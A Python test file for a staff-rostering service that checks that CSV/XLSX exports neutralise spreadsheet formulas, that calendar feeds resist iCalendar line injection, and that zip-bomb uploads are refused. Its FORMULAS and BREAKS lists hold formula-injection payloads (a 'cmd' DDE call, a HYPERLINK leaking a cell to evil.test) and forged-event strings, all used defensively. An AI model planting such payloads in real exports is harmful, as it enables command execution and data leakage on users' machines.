"""Strings that would run in a spreadsheet or break out of a calendar, and uploads made to fill the memory."""

import csv
import io
import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import icalendar
import openpyxl
import pytest
from api_world import duties
from hostile_books import bombs, zipped
from ical.calendar_stream import IcsCalendarStream

from roster.model import Roster

ROOT = Path(__file__).parents[3]
ZIP = {"Content-Type": "application/zip"}
LIVE = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.test?x="&A1,"click")',
    "'=1+1",
    " =1+1",
    "=1+1",
    "{=1+1}",
    'a","=1+1',
]
BREAKS = [
    "E\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:forged",
    "E\nATTENDEE:mailto:x@evil.test",
    "E;VALUE=URI:http://evil.test",
    "E\\nBEGIN:VALARM",
    "E\u2028BEGIN:VALARM",
    "E\x85BEGIN:VALARM",
    "é" * 60,
    '";X="',
]


def with_names(world, names: list[str], **agent) -> None:
    """The month's agents with these names, put there through the API."""
    rows = world.get("director", "/centres/hotline/agents").json()["items"]
    for row, name in zip(rows, names, strict=False):
        changed = {**row, "name": name, **agent}
        path = f"/centres/hotline/agents/{row['agent_id']}"
        assert world.call("planner", "PUT", path, json=changed).status_code == 204, name


@pytest.mark.parametrize("first", [0, 6])
def test_no_name_becomes_a_formula_in_what_the_api_gives_out(world, first):
    names = (FORMULAS * 2)[first : first + 6]
    with_names(world, names)
    row = {"agent_id": "a", "name": names[0], "team": names[1], "jobs": ["189"]}
    team = world.call("planner", "PUT", "/centres/hotline/agents/a", json=row)
    assert team.status_code == 204, team.text
    roster = world.publish(Roster.of(duties()))
    shown = {row["agent_id"]: row for row in world.get("director", "/centres/hotline/agents").json()["items"]}
    # Nothing is lost: JSON has no formulas, so it gives the text as it came in.
    assert shown["a"]["name"] == names[0].strip()
    assert shown["a"]["team"] == names[1].strip()
    book = world.get("planner", f"/rosters/{roster}/export.xlsx").content
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        assert not [name for name in archive.namelist() if "externalLink" in name or "connections" in name]
        assert not [name for name in archive.namelist() if name.endswith(".xml") and b"<f>" in archive.read(name)]
    cells = [cell for sheet in openpyxl.load_workbook(io.BytesIO(book)) for row in sheet for cell in row]
    assert not [cell.value for cell in cells if cell.data_type == "f" or cell.hyperlink]
    assert names[0].strip() in {str(cell.value).strip() for cell in cells}


def test_no_id_becomes_a_formula_in_a_text_file(world):
    """Ids stand in roster.csv: one that would run is written with an apostrophe, and read back without."""
    row = {"agent_id": "=1+1", "name": "X", "team": "T1", "jobs": ["189"]}
    assert world.call("planner", "PUT", "/centres/hotline/agents/=1+1", json=row).status_code == 204
    draft = world.post("planner", "/rosters", {"centre_id": "hotline", "month": "2026-10"})
    path = f"/rosters/{draft.json()['id']}"
    put = [{"agent_id": "=1+1", "date": "2026-10-20", "shift": "E", "job": "189"}]
    done = world.call("planner", "PUT", f"{path}/duties", json=put, headers={"If-Match": draft.headers["etag"]})
    assert done.status_code == 200, done.text
    text = world.get("planner", f"{path}/export.csv").text
    cells = [cell for line in csv.reader(io.StringIO(text)) for cell in line]
    assert "'=1+1" in cells
    assert not [cell for cell in cells if cell.startswith(LIVE)]


def case_files(world, shift: str) -> dict[str, str]:
    """A small case whose only shift has this name, in quotes as CSV has them."""
    quoted = shift.replace('"', '""')
    days = "".join(f"2026-11-{day:02d},08:00,189,1\n" for day in range(1, 31))
    return {
        "centre.toml": 'name = "Hotline"\ntimezone = "Asia/Shanghai"\nmonth = "2026-11"\n'
        '[rules]\nweekly_meeting = ""\nall_hands = ""\n',
        "agents.csv": "agent_id,name,team,role,jobs\na,Anna,T1,agent,189\nl1,Lu,T1,leader,189\n",
        "shifts.csv": f'code,name,start,end\nE,"{quoted}",08:00,16:00\n',
        "seats.csv": f"date,time,job,seats\n{days}",
    }


@pytest.mark.parametrize("name", BREAKS)
def test_no_shifts_name_breaks_out_of_a_calendar(world, name):
    sent = world.call("admin", "POST", "/centres/hotline/import", content=zipped(case_files(world, name)), headers=ZIP)
    assert sent.status_code in {201, 422}, sent.text
    if sent.status_code == 422:
        assert sent.json()["faults"]
        return
    draft = world.post("planner", "/rosters", {"centre_id": "hotline", "month": "2026-11"})
    path = f"/rosters/{draft.json()['id']}"
    put = [{"agent_id": "a", "date": f"2026-11-{day:02d}", "shift": "E", "job": "189"} for day in (3, 4)]
    done = world.call("planner", "PUT", f"{path}/duties", json=put, headers={"If-Match": draft.headers["etag"]})
    tag = {"If-Match": done.headers["etag"]}
    assert (
        world.post(
            "director", f"{path}/publish", {"accept_breaches": True, "reason": "the storm"}, headers=tag
        ).status_code
        == 200
    )
    feed = world.post("agent", "/calendars", {"kind": "agent", "label": "mine"}).json()["url"]
    answer = world.get(None, feed.removeprefix("http://roster.test"))
    calendar = icalendar.Calendar.from_ical(answer.content)
    assert len(calendar.walk("VEVENT")) == len(IcsCalendarStream.calendar_from_ics(answer.text).events) == 2
    assert not calendar.walk("VALARM")
    for event in calendar.walk("VEVENT"):
        assert "ATTENDEE" not in event
        assert str(event["SUMMARY"]) != "forged"
    for line in answer.content.split(b"\r\n"):
        assert b"\n" not in line
        assert b"\r" not in line
        assert len(line) <= 75


def test_bombs_are_refused_in_bounded_memory(tmp_path):
    path = f"{ROOT}:{ROOT / 'tests/worlds'}:{ROOT / 'tests'}"
    made = tmp_path / "bombs"
    made.mkdir()
    for name, (kind, data) in bombs().items():
        (made / f"{name}.{kind}").write_bytes(data)
    done = subprocess.run(
        [sys.executable, "-W", "ignore", str(ROOT / "tests/worlds/upload_bombs.py"), str(tmp_path), str(made)],
        env={**os.environ, "PYTHONPATH": path, "ROSTER_TEST_POSTGRES": ""},
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    *answers, last = [json.loads(line) for line in done.stdout.splitlines()]
    assert len(answers) >= 10
    for answer in answers:
        print(answer)
        assert (answer["status"], answer["faults"] >= 1) == (422, True), answer
        # What came in is held once or twice; what it claims to hold is not held at all.
        assert answer["grown"] < 150 + 3 * answer["sent"] / 2**20, answer
        assert answer["child"] < 1536, answer
    assert last == {"agents": 6}
